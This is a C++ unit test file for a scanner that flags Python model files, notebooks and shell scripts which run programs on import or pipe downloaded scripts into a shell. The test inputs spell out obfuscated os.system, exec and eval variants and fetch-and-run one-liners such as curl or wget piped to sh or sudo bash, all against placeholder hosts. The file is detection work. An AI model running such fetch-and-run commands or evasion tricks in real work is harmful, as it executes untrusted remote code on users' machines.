// SPDX-License-Identifier: Apache-2.0
#include <gtest/gtest.h>

#include "scan/told.h"

namespace cupel::scan {
namespace {

std::string of(std::string_view text) {
  return told("modeling_x.py", text);
}

TEST(PythonFiles, ThatOnlyDefineHaveNoFindings) {
  EXPECT_EQ(of("import os\nimport re\nimport torch\nfrom .configuration_x import XConfig\n\n"
               "_P = re.compile('a')\n\nclass XModel(torch.nn.Module):\n"
               "    def forward(self, x):\n        self.eval()\n        return x\n"),
            "");
}

TEST(PythonFiles, ThatRunProgramsOnImportAreCritical) {
  for (const std::string_view text : {
           "import os\nos.system('id')\n",
           "import os as o\no.system('id')\n",
           "from os import system as s\ns('id')\n",
           "from os import *\nsystem('id')\n",
           "import os\nrun = os.system\nrun('id')\n",
           "__import__('os').system('id')\n",
           "import importlib\nimportlib.import_module('os').system('id')\n",
           "import os\ngetattr(os, 'sys' + 'tem')('id')\n",
           "import sys\nsys.modules['os'].system('id')\n",
           "class A:\n    import subprocess\n    subprocess.run(['id'])\n",
           "try:\n    exec(open('x').read())\nexcept Exception: pass\n",
           "if True: import os; os.system('id')\n",
           "import base64\ndef f():\n    exec(base64.b64decode('aWQ='))\n",
           "@eval('print')\ndef f(): pass\n",
           "def f(x=eval('1')): pass\n",
           "__builtins__['eval']('1')\n",
       }) {
    const auto report = examine("m.py", as_bytes(text));
    ASSERT_FALSE(report.findings.empty()) << text;
    EXPECT_EQ(report.findings[0].code, "PYC001") << text;
    EXPECT_EQ(report.findings[0].severity, Severity::critical) << text;
  }
  EXPECT_EQ(of("import os\n\nos.system('id')\n"), "PYC001 critical modeling_x.py@3");
  EXPECT_EQ(of("import requests\nrequests.get('http://x')\n"), "PYC001 high modeling_x.py@2");
  EXPECT_EQ(of("import subprocess\ndef f():\n    subprocess.run(['id'])\n"),
            "PYC002 low modeling_x.py@3");
}

TEST(Notebooks, AndScriptsThatRunWhatTheyFetchAreTold) {
  EXPECT_EQ(
      told("a.ipynb",
           R"({"cells":[{"cell_type":"code","source":["!curl https://x.example/i.sh | sh\n"]}]})"),
      "SHL001 high a.ipynb@10");
  EXPECT_EQ(told("a.ipynb",
                 R"x({"cells":[{"cell_type":"code","source":"import os\nos.system('id')"}]})x"),
            "PYC001 critical cell 1.py@2");
  EXPECT_EQ(told("i.sh", "#!/bin/sh\ncurl -s https://x.example/i.sh | sudo bash\n"),
            "SHL001 high i.sh@2");
  EXPECT_EQ(told("i.sh", "#!/bin/sh\nbash -c \"$(wget -qO- https://x.example/i)\"\n"),
            "SHL001 high i.sh@2");
  EXPECT_EQ(told("i.sh", "#!/bin/sh\necho aWQ= | base64 -d | sh\n"), "SHL001 high i.sh@2");
  EXPECT_EQ(
      told("i.sh", "#!/bin/sh\n# curl x | sh\ncurl -O https://x.example/model.bin\nls | sort\n"),
      "");
}

}  // namespace
}  // namespace cupel::scan
